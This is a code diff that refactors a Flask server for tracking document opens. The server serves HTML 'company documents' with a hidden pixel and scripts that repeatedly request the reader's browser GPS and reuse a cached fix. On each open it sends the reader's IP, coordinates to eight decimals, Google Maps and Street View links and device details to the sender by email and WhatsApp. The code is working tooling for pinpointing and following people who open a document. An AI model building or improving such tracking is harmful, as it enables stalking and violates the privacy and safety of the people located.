@@ -1,15 +1,28 @@
+import atexit
 import os
 import requests
+from requests.adapters import HTTPAdapter
+from urllib3.util.retry import Retry
 import sqlite3
 from datetime import datetime
 import smtplib
 from email.mime.text import MIMEText
 from email.mime.multipart import MIMEMultipart
 import logging
-from flask import Flask, request, Response, render_template, jsonify
+from flask import Flask, request, Response, abort, render_template, jsonify, send_from_directory
 import base64
+import gzip
+import html
+import ipaddress
+import re
+import secrets
+import string
 import threading
 import json
+import time
+from collections import OrderedDict
+from concurrent.futures import ThreadPoolExecutor
+from urllib.parse import urlsplit
 
 # Configure logging
 logging.basicConfig(
@@ -23,13 +36,248 @@ logger = logging.getLogger(__name__)
 
 app = Flask(__name__)
 
+# (connect, read) timeouts for one geolocation request; a dead host fails in a
+# second instead of holding the notification thread for the full read timeout
+GEO_TIMEOUT = (1, 3)
+
+# ipinfo.io answers up to this many IPs per batch request (needs IPINFO_TOKEN)
+IPINFO_BATCH_URL = 'https://ipinfo.io/batch'
+IPINFO_BATCH_SIZE = 100
+
+# IP geolocation answers are stable for a day; NAT'd offices and re-opens
+# repeat the same few addresses
+GEO_CACHE_SIZE = 10000
+GEO_CACHE_TTL = 24 * 3600
+
+# 1x1 transparent GIF returned for every GET of a tracking URL; never cached,
+# so each open reaches the server
+TRACKING_PIXEL = base64.b64decode('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7')
+PIXEL_HEADERS = {
+    'Content-Type': 'image/gif',
+    'Cache-Control': 'no-cache, no-store, must-revalidate',
+    'Pragma': 'no-cache',
+    'Expires': '0',
+    'Access-Control-Allow-Origin': '*'
+}
+
+# Tracking database; WAL lets the notification threads write while others read.
+# auto_vacuum only takes effect on a brand-new file, so it has to come first.
+DB_PATH = '/tmp/pdf_tracking.db'
+SQLITE_PRAGMAS = (
+    'PRAGMA auto_vacuum=INCREMENTAL',
+    'PRAGMA journal_mode=WAL',
+    'PRAGMA synchronous=NORMAL',
+    'PRAGMA temp_store=MEMORY',
+    'PRAGMA cache_size=-20000',
+    'PRAGMA mmap_size=134217728',
+)
+
+# How often the WAL is folded back into the database, statistics refreshed
+# and expired documents deleted
+DB_MAINTENANCE_INTERVAL = 15 * 60
+
+INSERT_ACCESS_SQL = '''
+    INSERT INTO pdf_access 
+    (pdf_id, client_name, access_time, ip_address, country, city, region, 
+     latitude, longitude, accuracy, gps_source, user_agent, email_status, whatsapp_status, status)
+    VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)
+'''
+
+# Notification wording for a browser GPS fix, by the largest accuracy (meters) it covers
+GPS_ACCURACY_LABELS = (
+    (20, "🎯 MILITARY-GRADE PRECISION", "Extreme Precision"),
+    (50, "📍 EXACT GPS COORDINATES", "High Precision"),
+    (float('inf'), "📡 PRECISE GPS LOCATION", "Good Precision"),
+)
+
+# Notification bodies; filled with str.format_map by the send_* methods
+EMAIL_TEMPLATE = """🔔 REAL-TIME LOCATION TRACKING
+
+📄 Document: {pdf_id}
+👤 Client: {client_name}
+🕒 Opened: {access_time}
+🌐 IP Address: {ip_address}
+
+
+🎯 PRECISE LOCATION DATA:
+   📍 Latitude: {lat:.8f}
+   📍 Longitude: {lng:.8f}
+   📏 {accuracy_info}
+   🔧 Source: {accuracy_display}
+
+🗺️ EXACT MAP LINKS:
+   • Google Maps: https://www.google.com/maps?q={lat},{lng}&z=16
+   • Street View: https://www.google.com/maps/@?api=1&map_action=pano&viewpoint={lat},{lng}
+
+📍 ADDRESS INFORMATION:
+   🏙️ City: {city}
+   🏞️ Region: {region}
+   🌍 Country: {country}
+
+
+📱 Device Information:
+   {user_agent}
+
+---
+🎯 Automated GPS Tracking System
+"""
+
+WHATSAPP_TEMPLATE = """📍 *REAL-TIME GPS TRACKING - DOCUMENT OPENED*
+
+📄 *Document:* {pdf_id}
+👤 *Client:* {client_name}
+🕒 *Exact Time:* {access_time}
+🌐 *IP:* {ip_address}
+
+
+📍 *PRECISE COORDINATES:*
+   🎯 {lat:.8f}, {lng:.8f}
+   📏 {accuracy_info}
+   🔧 {accuracy_display}
+
+🗺️ *Exact Map Links:*
+   https://maps.google.com/?q={lat},{lng}&z=16
+   https://www.google.com/maps/@?api=1&map_action=pano&viewpoint={lat},{lng}
+
+🏠 *Address Area:*
+   {location_str}
+
+Real-time location tracking completed! 🎯"""
+
+# Notification jobs run on a bounded pool instead of a thread per open. Mail
+# goes through one dedicated worker so it is sent at a steady rate.
+NOTIFY_POOL = ThreadPoolExecutor(max_workers=int(os.getenv('NOTIFY_WORKERS', '8')),
+                                 thread_name_prefix='notify')
+MAIL_POOL = ThreadPoolExecutor(max_workers=1, thread_name_prefix='mail')
+
+# Where get_ip_location_fallback puts an IP no service could place
+DEFAULT_LOCATION = {
+    'latitude': 40.7128,  # New York as default
+    'longitude': -74.0060,
+    'accuracy': 50000,
+    'city': 'Approximate Location',
+    'region': 'Based on IP',
+    'country': 'United States'
+}
+
+def _accuracy_labels(gps_source, accuracy_meters):
+    """(display, info) wording for a location's accuracy in the notifications"""
+    if gps_source != 'browser_gps':
+        return "🌐 IP-BASED ESTIMATE", f"Approximate Area (~{accuracy_meters/1000:.1f}km)"
+    for limit, display, info in GPS_ACCURACY_LABELS:
+        if accuracy_meters < limit:
+            return display, f"{info} (~{accuracy_meters:.1f}m)"
+
+def _is_public_ip(ip_address):
+    """True for a well-formed, globally routable IP address"""
+    try:
+        return ipaddress.ip_address(ip_address.strip()).is_global
+    except ValueError:
+        return False
+
+class TTLCache:
+    """Thread-safe LRU cache whose entries expire after a fixed number of seconds"""
+    
+    def __init__(self, maxsize, ttl):
+        self.maxsize = maxsize
+        self.ttl = ttl
+        self._entries = OrderedDict()
+        self._lock = threading.Lock()
+    
+    def get(self, key):
+        with self._lock:
+            entry = self._entries.get(key)
+            if entry is None:
+                return None
+            expires_at, value = entry
+            if expires_at < time.monotonic():
+                del self._entries[key]
+                return None
+            self._entries.move_to_end(key)
+            return value
+    
+    def set(self, key, value):
+        with self._lock:
+            self._entries[key] = (time.monotonic() + self.ttl, value)
+            self._entries.move_to_end(key)
+            while len(self._entries) > self.maxsize:
+                self._entries.popitem(last=False)
+
 class PDFTracker:
     def __init__(self):
+        self._geo_cache = TTLCache(GEO_CACHE_SIZE, GEO_CACHE_TTL)
+        # Keep-alive session shared by the geolocation and WhatsApp calls, so
+        # repeat requests skip the DNS, TCP and TLS setup. Status retries only
+        # apply to the idempotent GETs; a WhatsApp POST is never resent. A 429's
+        # Retry-After is ignored: it can ask for a minute, far longer than any
+        # lookup is worth holding a tracking thread for.
+        self._http = requests.Session()
+        self._http.headers.update({'User-Agent': 'pdf-tracker/1.0', 'Accept-Encoding': 'gzip'})
+        adapter = HTTPAdapter(pool_connections=32, pool_maxsize=64,
+                              max_retries=Retry(total=2, backoff_factor=0.2,
+                                                status_forcelist=[429, 500, 502, 503, 504],
+                                                respect_retry_after_header=False))
+        self._http.mount('https://', adapter)
+        self._db_lock = threading.Lock()
+        # Each mail thread keeps its own logged-in SMTP connection
+        self._smtp_local = threading.local()
+        self._smtp_conns = set()
         self.setup_database()
+        self._schedule_maintenance()
+        atexit.register(self.close_smtp_connections)
+        
+        # gunicorn preloads the app, so workers are forked from a process that
+        # already opened the database
+        os.register_at_fork(after_in_child=self._after_fork)
+    
+    def _after_fork(self):
+        """Give a forked worker its own connection, lock and maintenance timer"""
+        # An SQLite handle must not be used on both sides of fork(), and the
+        # parent's timer thread does not exist in the child
+        self._db_lock = threading.Lock()
+        self.conn = self._open_connection()
+        self._smtp_local = threading.local()
+        self._smtp_conns = set()
+        self._schedule_maintenance()
+    
+    def _open_connection(self):
+        """Open the tracking database with the tuned pragmas applied"""
+        conn = sqlite3.connect(DB_PATH, check_same_thread=False)
+        for pragma in SQLITE_PRAGMAS:
+            conn.execute(pragma)
+        return conn
+    
+    def _schedule_maintenance(self):
+        """Run _maintain_database once DB_MAINTENANCE_INTERVAL has passed"""
+        timer = threading.Timer(DB_MAINTENANCE_INTERVAL, self._maintain_database)
+        timer.daemon = True
+        timer.start()
+    
+    def _maintain_database(self):
+        """Release free pages, truncate the WAL, refresh query planner statistics
+        and delete expired documents"""
+        try:
+            with self._db_lock:
+                # The pragma frees one page per step and execute() steps it only
+                # once; executescript() runs it to completion so every page goes
+                self.conn.executescript('PRAGMA incremental_vacuum')
+                self.conn.execute('PRAGMA wal_checkpoint(TRUNCATE)')
+                self.conn.execute('PRAGMA optimize')
+        except sqlite3.Error as e:
+            logger.warning(f"Database maintenance failed: {e}")
+        
+        try:
+            removed = _sweep_documents()
+            if removed:
+                logger.info(f"Deleted {removed} expired document files")
+        except OSError as e:
+            logger.warning(f"Document cleanup failed: {e}")
+        finally:
+            self._schedule_maintenance()
     
     def setup_database(self):
         """Initialize SQLite database for tracking"""
-        self.conn = sqlite3.connect('/tmp/pdf_tracking.db', check_same_thread=False)
+        self.conn = self._open_connection()
         cursor = self.conn.cursor()
         cursor.execute('''
             CREATE TABLE IF NOT EXISTS pdf_access (
@@ -51,39 +299,48 @@ class PDFTracker:
                 status TEXT DEFAULT 'delivered'
             )
         ''')
+        # Per-document history, newest first, and lookups by visitor address
+        cursor.execute('CREATE INDEX IF NOT EXISTS idx_pdf_access_pdf ON pdf_access(pdf_id, access_time DESC)')
+        cursor.execute('CREATE INDEX IF NOT EXISTS idx_pdf_access_ip ON pdf_access(ip_address)')
         self.conn.commit()
         logger.info("Database initialized successfully")
     
     def get_ip_location_fallback(self, ip_address):
         """Get approximate location based on IP as fallback"""
+        cached = self._geo_cache.get(ip_address)
+        if cached is not None:
+            return dict(cached)
+        
+        # Private, loopback and malformed addresses have no location to find
+        if not _is_public_ip(ip_address):
+            return dict(DEFAULT_LOCATION)
+        
+        location = self._lookup_ip_location(ip_address)
+        if location is None:
+            # Not cached: a miss is retried on the next open
+            return dict(DEFAULT_LOCATION)
+        
+        self._geo_cache.set(ip_address, location)
+        return dict(location)
+    
+    def _lookup_ip_location(self, ip_address):
+        """Ask the geolocation services for ip_address; None when none of them knows it"""
         try:
-            # Try multiple IP geolocation services
-            services = [
-                self._try_ipapi(ip_address),
-                self._try_ipinfo(ip_address)
-            ]
-            
-            for service_result in services:
+            # Try multiple IP geolocation services, stopping at the first answer
+            for service in (self._try_ipapi, self._try_ipinfo):
+                service_result = service(ip_address)
                 if service_result and service_result.get('latitude'):
                     return service_result
                     
         except Exception as e:
             logger.debug(f"IP location fallback failed: {e}")
         
-        # Default fallback coordinates (center of the country based on IP)
-        return {
-            'latitude': 40.7128,  # New York as default
-            'longitude': -74.0060,
-            'accuracy': 50000,
-            'city': 'Approximate Location',
-            'region': 'Based on IP',
-            'country': 'United States'
-        }
+        return None
     
     def _try_ipapi(self, ip_address):
         """Try ipapi.co service"""
         try:
-            response = requests.get(f'https://ipapi.co/{ip_address}/json/', timeout=5)
+            response = self._http.get(f'https://ipapi.co/{ip_address}/json/', timeout=GEO_TIMEOUT)
             if response.status_code == 200:
                 data = response.json()
                 if data.get('latitude') and data.get('longitude'):
@@ -102,23 +359,117 @@ class PDFTracker:
     def _try_ipinfo(self, ip_address):
         """Try ipinfo.io service"""
         try:
-            response = requests.get(f'https://ipinfo.io/{ip_address}/json', timeout=5)
+            response = self._http.get(f'https://ipinfo.io/{ip_address}/json', timeout=GEO_TIMEOUT)
             if response.status_code == 200:
-                data = response.json()
-                loc = data.get('loc', '').split(',')
-                if len(loc) == 2:
-                    return {
-                        'latitude': float(loc[0]),
-                        'longitude': float(loc[1]),
-                        'accuracy': 10000,
-                        'city': data.get('city', 'Unknown'),
-                        'region': data.get('region', 'Unknown'),
-                        'country': data.get('country', 'Unknown')
-                    }
+                return self._ipinfo_location(response.json())
         except:
             pass
         return None
     
+    def _ipinfo_location(self, data):
+        """Location dict from one ipinfo.io record, or None without coordinates"""
+        loc = data.get('loc', '').split(',')
+        if len(loc) == 2:
+            return {
+                'latitude': float(loc[0]),
+                'longitude': float(loc[1]),
+                'accuracy': 10000,
+                'city': data.get('city', 'Unknown'),
+                'region': data.get('region', 'Unknown'),
+                'country': data.get('country', 'Unknown')
+            }
+        return None
+    
+    def batch_geolocate(self, ip_addresses):
+        """Locate many IPs with one ipinfo.io request per IPINFO_BATCH_SIZE; returns {ip: location}
+        
+        IPs the batch could not place, or every IP when IPINFO_TOKEN is unset,
+        go through get_ip_location_fallback one at a time.
+        """
+        locations = {}
+        pending = []
+        for ip in dict.fromkeys(ip_addresses):
+            cached = self._geo_cache.get(ip)
+            if cached is not None:
+                locations[ip] = dict(cached)
+            elif not _is_public_ip(ip):
+                locations[ip] = dict(DEFAULT_LOCATION)
+            else:
+                pending.append(ip)
+        token = os.getenv('IPINFO_TOKEN')
+        
+        if token:
+            for start in range(0, len(pending), IPINFO_BATCH_SIZE):
+                batch = pending[start:start + IPINFO_BATCH_SIZE]
+                try:
+                    response = self._http.post(
+                        IPINFO_BATCH_URL,
+                        params={'token': token},
+                        json=[f'{ip}/json' for ip in batch],
+                        timeout=(2, 10)
+                    )
+                    if response.status_code != 200:
+                        logger.warning(f"ipinfo.io batch returned {response.status_code}")
+                        continue
+                    data = response.json()
+                except Exception as e:
+                    logger.warning(f"ipinfo.io batch failed: {e}")
+                    continue
+                
+                for ip in batch:
+                    record = data.get(f'{ip}/json')
+                    if isinstance(record, dict):
+                        try:
+                            location = self._ipinfo_location(record)
+                        except ValueError:
+                            location = None
+                        if location:
+                            self._geo_cache.set(ip, location)
+                            locations[ip] = dict(location)
+        
+        for ip in pending:
+            if ip not in locations:
+                locations[ip] = self.get_ip_location_fallback(ip)
+        return locations
+    
+    def _get_smtp(self, smtp_server, smtp_port, email_from, email_password):
+        """This thread's SMTP connection, logging in again only if it has dropped"""
+        server = getattr(self._smtp_local, 'conn', None)
+        if server is not None:
+            try:
+                if server.noop()[0] == 250:
+                    return server
+            except (smtplib.SMTPException, OSError):
+                pass
+            self._drop_smtp(server)
+        
+        logger.info(f"🔐 Connecting to {smtp_server}:{smtp_port}")
+        server = smtplib.SMTP(smtp_server, smtp_port, timeout=15)
+        server.set_debuglevel(0)
+        server.starttls()
+        server.login(email_from, email_password)
+        self._smtp_local.conn = server
+        self._smtp_conns.add(server)
+        return server
+    
+    def _drop_smtp(self, server):
+        """Close an SMTP connection and forget it"""
+        self._smtp_local.conn = None
+        self._smtp_conns.discard(server)
+        try:
+            server.quit()
+        except (smtplib.SMTPException, OSError):
+            server.close()
+    
+    def close_smtp_connections(self):
+        """Log out of every cached SMTP connection"""
+        for server in list(self._smtp_conns):
+            self._smtp_conns.discard(server)
+            try:
+                server.quit()
+            except (smtplib.SMTPException, OSError):
+                server.close()
+    
     def send_email_notification(self, pdf_id, client_name, access_data, location_data):
         """Send email notification with precise location details"""
         try:
@@ -140,70 +491,35 @@ class PDFTracker:
             message['Subject'] = f"📍 PRECISE LOCATION: {pdf_id} - {client_name}"
             
             # Build location information
-            accuracy_meters = location_data['accuracy']
-            if location_data['gps_source'] == 'browser_gps':
-                if accuracy_meters < 20:
-                    accuracy_display = "🎯 MILITARY-GRADE PRECISION"
-                    accuracy_info = f"Extreme Precision (~{accuracy_meters:.1f}m)"
-                elif accuracy_meters < 50:
-                    accuracy_display = "📍 EXACT GPS COORDINATES"
-                    accuracy_info = f"High Precision (~{accuracy_meters:.1f}m)"
-                else:
-                    accuracy_display = "📡 PRECISE GPS LOCATION"
-                    accuracy_info = f"Good Precision (~{accuracy_meters:.1f}m)"
-            else:
-                accuracy_display = "🌐 IP-BASED ESTIMATE"
-                accuracy_info = f"Approximate Area (~{accuracy_meters/1000:.1f}km)"
+            accuracy_display, accuracy_info = _accuracy_labels(location_data['gps_source'], location_data['accuracy'])
             
             # Always include precise coordinates
-            lat = location_data['latitude']
-            lng = location_data['longitude']
-            google_maps_url = f"https://www.google.com/maps?q={lat},{lng}&z=16"
-            street_view_url = f"https://www.google.com/maps/@?api=1&map_action=pano&viewpoint={lat},{lng}"
-            
-            gps_section = f"""
-🎯 PRECISE LOCATION DATA:
-   📍 Latitude: {lat:.8f}
-   📍 Longitude: {lng:.8f}
-   📏 {accuracy_info}
-   🔧 Source: {accuracy_display}
-
-🗺️ EXACT MAP LINKS:
-   • Google Maps: {google_maps_url}
-   • Street View: {street_view_url}
-
-📍 ADDRESS INFORMATION:
-   🏙️ City: {location_data['city']}
-   🏞️ Region: {location_data['region']}
-   🌍 Country: {location_data['country']}
-
-"""
-            
-            body = f"""🔔 REAL-TIME LOCATION TRACKING
-
-📄 Document: {pdf_id}
-👤 Client: {client_name}
-🕒 Opened: {access_data['access_time']}
-🌐 IP Address: {access_data['ip_address']}
-
-{gps_section}
-📱 Device Information:
-   {access_data['user_agent']}
-
----
-🎯 Automated GPS Tracking System
-"""
+            body = EMAIL_TEMPLATE.format_map({
+                'pdf_id': pdf_id,
+                'client_name': client_name,
+                'access_time': access_data['access_time'],
+                'ip_address': access_data['ip_address'],
+                'user_agent': access_data['user_agent'],
+                'lat': location_data['latitude'],
+                'lng': location_data['longitude'],
+                'accuracy_info': accuracy_info,
+                'accuracy_display': accuracy_display,
+                'city': location_data['city'],
+                'region': location_data['region'],
+                'country': location_data['country']
+            })
             
             message.attach(MIMEText(body, 'plain'))
             
-            # Send email
-            logger.info(f"🔐 Connecting to {smtp_server}:{smtp_port}")
-            server = smtplib.SMTP(smtp_server, smtp_port, timeout=15)
-            server.set_debuglevel(0)
-            server.starttls()
-            server.login(email_from, email_password)
-            server.send_message(message)
-            server.quit()
+            # Send email over the cached connection; if the server hung up
+            # between the NOOP and the send, log in again once and resend
+            server = self._get_smtp(smtp_server, smtp_port, email_from, email_password)
+            try:
+                server.send_message(message)
+            except smtplib.SMTPServerDisconnected:
+                self._drop_smtp(server)
+                server = self._get_smtp(smtp_server, smtp_port, email_from, email_password)
+                server.send_message(message)
             
             logger.info(f"✅ Email sent successfully for {pdf_id}")
             return "sent"
@@ -225,20 +541,7 @@ class PDFTracker:
                 return "not_configured"
             
             # Build precise location information
-            accuracy_meters = location_data['accuracy']
-            if location_data['gps_source'] == 'browser_gps':
-                if accuracy_meters < 20:
-                    accuracy_display = "🎯 MILITARY-GRADE PRECISION"
-                    accuracy_info = f"Extreme Precision (~{accuracy_meters:.1f}m)"
-                elif accuracy_meters < 50:
-                    accuracy_display = "📍 EXACT GPS COORDINATES"
-                    accuracy_info = f"High Precision (~{accuracy_meters:.1f}m)"
-                else:
-                    accuracy_display = "📡 PRECISE GPS LOCATION"
-                    accuracy_info = f"Good Precision (~{accuracy_meters:.1f}m)"
-            else:
-                accuracy_display = "🌐 IP-BASED ESTIMATE"
-                accuracy_info = f"Approximate Area (~{accuracy_meters/1000:.1f}km)"
+            accuracy_display, accuracy_info = _accuracy_labels(location_data['gps_source'], location_data['accuracy'])
             
             # Build location string
             location_parts = []
@@ -252,34 +555,17 @@ class PDFTracker:
             location_str = ', '.join(location_parts) if location_parts else 'Real-time Location'
             
             # PRECISE GPS coordinates for WhatsApp
-            lat = location_data['latitude']
-            lng = location_data['longitude']
-            maps_link = f"https://maps.google.com/?q={lat},{lng}&z=16"
-            street_view = f"https://www.google.com/maps/@?api=1&map_action=pano&viewpoint={lat},{lng}"
-            
-            gps_section = f"""
-📍 *PRECISE COORDINATES:*
-   🎯 {lat:.8f}, {lng:.8f}
-   📏 {accuracy_info}
-   🔧 {accuracy_display}
-
-🗺️ *Exact Map Links:*
-   {maps_link}
-   {street_view}
-
-🏠 *Address Area:*
-   {location_str}
-"""
-            
-            message = f"""📍 *REAL-TIME GPS TRACKING - DOCUMENT OPENED*
-
-📄 *Document:* {pdf_id}
-👤 *Client:* {client_name}
-🕒 *Exact Time:* {access_data['access_time']}
-🌐 *IP:* {access_data['ip_address']}
-
-{gps_section}
-Real-time location tracking completed! 🎯"""
+            message = WHATSAPP_TEMPLATE.format_map({
+                'pdf_id': pdf_id,
+                'client_name': client_name,
+                'access_time': access_data['access_time'],
+                'ip_address': access_data['ip_address'],
+                'lat': location_data['latitude'],
+                'lng': location_data['longitude'],
+                'accuracy_info': accuracy_info,
+                'accuracy_display': accuracy_display,
+                'location_str': location_str
+            })
             
             url = f"https://api.ultramsg.com/{instance_id}/messages/chat"
             payload = {
@@ -293,7 +579,7 @@ Real-time location tracking completed! 🎯"""
             }
             
             logger.info(f"💬 Sending PRECISE location to WhatsApp: +{to_number}")
-            response = requests.post(url, data=payload, headers=headers, timeout=15)
+            response = self._http.post(url, data=payload, headers=headers, timeout=15)
             
             if response.status_code == 200:
                 result = response.json()
@@ -325,8 +611,10 @@ Real-time location tracking completed! 🎯"""
                     'user_agent': user_agent
                 }
                 
-                # Use GPS data if available (high precision), otherwise IP fallback
-                if gps_data and gps_data.get('latitude') and gps_data.get('longitude'):
+                # Use GPS data if available (high precision), otherwise IP fallback.
+                # Compare against None so a fix on the equator or prime meridian
+                # doesn't trigger a needless IP geolocation round-trip
+                if gps_data and gps_data.get('latitude') is not None and gps_data.get('longitude') is not None:
                     # Use ACTUAL GPS data with high precision
                     raw_accuracy = gps_data.get('accuracy', 1000)
                     
@@ -360,38 +648,28 @@ Real-time location tracking completed! 🎯"""
                     logger.info(f"🌐 Using IP-based location for {pdf_id}")
                     logger.info(f"📍 Estimated Coordinates: {location_data['latitude']:.6f}, {location_data['longitude']:.6f}")
                 
-                # Save to database
-                cursor = self.conn.cursor()
-                cursor.execute('''
-                    INSERT INTO pdf_access 
-                    (pdf_id, client_name, access_time, ip_address, country, city, region, 
-                     latitude, longitude, accuracy, gps_source, user_agent, email_status, whatsapp_status, status)
-                    VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)
-                ''', (
-                    pdf_id, client_name, access_time, ip_address,
-                    location_data['country'], location_data['city'], location_data['region'],
-                    location_data['latitude'], location_data['longitude'], location_data['accuracy'],
-                    location_data['gps_source'], user_agent,
-                    'processing', 'processing', 'opened'
-                ))
-                self.conn.commit()
-                
-                record_id = cursor.lastrowid
-                
                 # Send PRECISE notifications
+                # The email goes out on the mail thread while this thread sends
+                # the WhatsApp message, so the two round-trips overlap
                 logger.info("📧 Sending email with precise location...")
-                email_status = self.send_email_notification(pdf_id, client_name, access_data, location_data)
+                email_future = MAIL_POOL.submit(
+                    self.send_email_notification, pdf_id, client_name, access_data, location_data
+                )
                 
                 logger.info("💬 Sending WhatsApp with exact coordinates...")
                 whatsapp_status = self.send_whatsapp_notification(pdf_id, client_name, access_data, location_data)
+                email_status = email_future.result()
                 
-                # Update status in database
-                cursor.execute('''
-                    UPDATE pdf_access 
-                    SET email_status = ?, whatsapp_status = ?
-                    WHERE id = ?
-                ''', (email_status, whatsapp_status, record_id))
-                self.conn.commit()
+                # Save to database once, with the final notification statuses
+                with self._db_lock:
+                    self.conn.execute(INSERT_ACCESS_SQL, (
+                        pdf_id, client_name, access_time, ip_address,
+                        location_data['country'], location_data['city'], location_data['region'],
+                        location_data['latitude'], location_data['longitude'], location_data['accuracy'],
+                        location_data['gps_source'], user_agent,
+                        email_status, whatsapp_status, 'opened'
+                    ))
+                    self.conn.commit()
                 
                 logger.info(f"✅ PRECISE location notifications completed for {pdf_id}")
                 logger.info(f"   📧 Email: {email_status}")
@@ -401,10 +679,8 @@ Real-time location tracking completed! 🎯"""
             except Exception as e:
                 logger.error(f"❌ Error in precise location processing: {str(e)}")
         
-        # Start processing in background thread
-        thread = threading.Thread(target=process_notifications)
-        thread.daemon = True
-        thread.start()
+        # Queue processing on the notification pool
+        NOTIFY_POOL.submit(process_notifications)
         
         return True
 
@@ -421,7 +697,7 @@ def track_pdf_access(pdf_id, client_name):
     try:
         # Get client information
         if request.headers.get('X-Forwarded-For'):
-            ip_address = request.headers.get('X-Forwarded-For').split(',')[0]
+            ip_address = request.headers.get('X-Forwarded-For').split(',')[0].strip()
         else:
             ip_address = request.remote_addr
         
@@ -431,7 +707,8 @@ def track_pdf_access(pdf_id, client_name):
         gps_data = None
         if request.method == 'POST':
             try:
-                gps_data = request.get_json()
+                # Beacons arrive as text/plain, so the body is parsed whatever its type
+                gps_data = request.get_json(force=True, silent=True)
                 if gps_data and 'latitude' in gps_data and 'longitude' in gps_data:
                     logger.info(f"🎯 RECEIVED PRECISE GPS for {pdf_id}")
                     logger.info(f"📍 Exact Coordinates: {gps_data['latitude']:.8f}, {gps_data['longitude']:.8f}")
@@ -457,42 +734,22 @@ def track_pdf_access(pdf_id, client_name):
             response.headers.add('Access-Control-Allow-Origin', '*')
             return response
         else:
-            pixel = base64.b64decode('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7')
-            response = Response(pixel, mimetype='image/gif')
-            response.headers['Cache-Control'] = 'no-cache, no-store, must-revalidate'
-            response.headers['Pragma'] = 'no-cache'
-            response.headers['Expires'] = '0'
-            response.headers['Access-Control-Allow-Origin'] = '*'
-            return response
+            return Response(TRACKING_PIXEL, headers=PIXEL_HEADERS)
             
     except Exception as e:
         logger.error(f"Precise tracking error: {str(e)}")
         return "Server Error", 500
 
-@app.route('/create-document', methods=['POST'])
-def create_document():
-    """Create a tracked HTML document with MAXIMUM GPS automation"""
-    try:
-        data = request.get_json()
-        if not data:
-            return jsonify({'success': False, 'error': 'No JSON data provided'}), 400
-        
-        pdf_id = data.get('pdf_id', 'DOC_' + datetime.now().strftime("%Y%m%d_%H%M%S"))
-        client_name = data.get('client_name', 'Client')
-        content = data.get('content', 'Default document content')
-        
-        # Get base URL
-        base_url = request.host_url.rstrip('/')
-        
-        # Create HTML document with MAXIMUM GPS automation
-        tracking_url = f"{base_url}/track-pdf/{pdf_id}/{client_name}"
-        
-        # HTML with maximum automation
-        html_content = """<!DOCTYPE html>
+# Tracked document skeleton, parsed once; create_document only fills in the holes.
+# content is the sender's own HTML and is inserted as-is
+DOCUMENT_TEMPLATE = string.Template("""<!DOCTYPE html>
 <html>
 <head>
-    <title>Document: """ + pdf_id + """</title>
     <meta charset="UTF-8">
+    <link rel="preconnect" href="${tracking_origin}">
+    <link rel="preconnect" href="${tracking_origin}" crossorigin>
+    <link rel="dns-prefetch" href="${tracking_origin}">
+    <title>Document: ${pdf_id}</title>
     <meta name="viewport" content="width=device-width, initial-scale=1.0">
     <style>
         body {
@@ -564,7 +821,7 @@ def create_document():
 <body>
     <div class="header">
         <h1>COMPANY DOCUMENT</h1>
-        <p>Document ID: """ + pdf_id + """ | Client: """ + client_name + """</p>
+        <p>Document ID: ${pdf_id} | Client: ${client_name}</p>
     </div>
     
     <div class="tracking-notice">
@@ -584,19 +841,67 @@ def create_document():
     </div>
     
     <div class="content">
-        """ + content + """
+        ${content}
     </div>
     
     <!-- Basic tracking -->
-    <img src=\"""" + tracking_url + """\" width="1" height="1" style="display:none" id="trackingPixel">
+    <img src="${tracking_url}" width="1" height="1" style="display:none" id="trackingPixel">
     
     <script>
         // Global variables
         let locationAcquired = false;
-        const trackingUrl = '""" + tracking_url + """';
+        let gpsInFlight = false;
+        let coarseFix = null;
+        const trackingUrl = ${tracking_url_js};
+        
+        // Pending retry/fallback timers, cleared as soon as a position arrives
+        const timers = {};
+        function schedule(name, fn, delay) {
+            clearTimeout(timers[name]);
+            timers[name] = setTimeout(fn, delay);
+        }
+        function clearTimers() {
+            for (const name in timers) {
+                clearTimeout(timers[name]);
+            }
+        }
+        
+        // A position from the last two hours is reused on a repeat open, but only
+        // while the browser still reports the location permission as granted
+        const POSITION_CACHE_KEY = 'geoCache';
+        const POSITION_CACHE_TTL = 2 * 60 * 60 * 1000;
+        
+        function readCachedPosition() {
+            try {
+                const cached = JSON.parse(localStorage.getItem(POSITION_CACHE_KEY) || 'null');
+                if (cached && Date.now() - cached.ts < POSITION_CACHE_TTL) {
+                    return cached;
+                }
+            } catch (e) {
+                // Storage can be unavailable (private browsing) or hold bad JSON
+            }
+            return null;
+        }
+        
+        function storePosition(gpsData) {
+            try {
+                localStorage.setItem(POSITION_CACHE_KEY, JSON.stringify(Object.assign({ts: Date.now()}, gpsData)));
+            } catch (e) {}
+        }
+        
+        function forgetPosition() {
+            try {
+                localStorage.removeItem(POSITION_CACHE_KEY);
+            } catch (e) {}
+        }
         
         // MAXIMUM AUTOMATION: Auto-request GPS with multiple attempts
         function requestPreciseGPS() {
+            // One request at a time: retries and button taps don't stack
+            if (gpsInFlight) {
+                return;
+            }
+            
             showStatus('🎯 Requesting PRECISE GPS location...', 'warning');
             
             if (!navigator.geolocation) {
@@ -604,10 +909,75 @@ def create_document():
                 return;
             }
             
+            gpsInFlight = true;
+            
+            const cached = readCachedPosition();
+            if (!cached || !navigator.permissions) {
+                acquirePosition();
+                return;
+            }
+            
+            navigator.permissions.query({name: 'geolocation'}).then(function(permission) {
+                if (permission.state !== 'granted') {
+                    forgetPosition();
+                    acquirePosition();
+                    return;
+                }
+                
+                gpsInFlight = false;
+                locationAcquired = true;
+                clearTimers();
+                
+                showStatus('✅ Recent GPS location reused. Accuracy: ' + cached.accuracy.toFixed(1) + 'm', 'success');
+                sendLocationData({
+                    latitude: cached.latitude,
+                    longitude: cached.longitude,
+                    accuracy: cached.accuracy,
+                    timestamp: new Date().toISOString(),
+                    source: 'cached_gps'
+                });
+            }, acquirePosition);
+        }
+        
+        function acquirePosition() {
+            // Quick Wi-Fi/cell fix, held here within a second or two. Every POST
+            // records an open and notifies, so it is only sent if the GPS
+            // request below fails; otherwise the GPS fix is the one report.
+            navigator.geolocation.getCurrentPosition(
+                function(position) {
+                    if (locationAcquired || coarseFix) {
+                        return;
+                    }
+                    
+                    coarseFix = {
+                        latitude: position.coords.latitude,
+                        longitude: position.coords.longitude,
+                        accuracy: position.coords.accuracy,
+                        timestamp: new Date().toISOString(),
+                        source: 'coarse_location'
+                    };
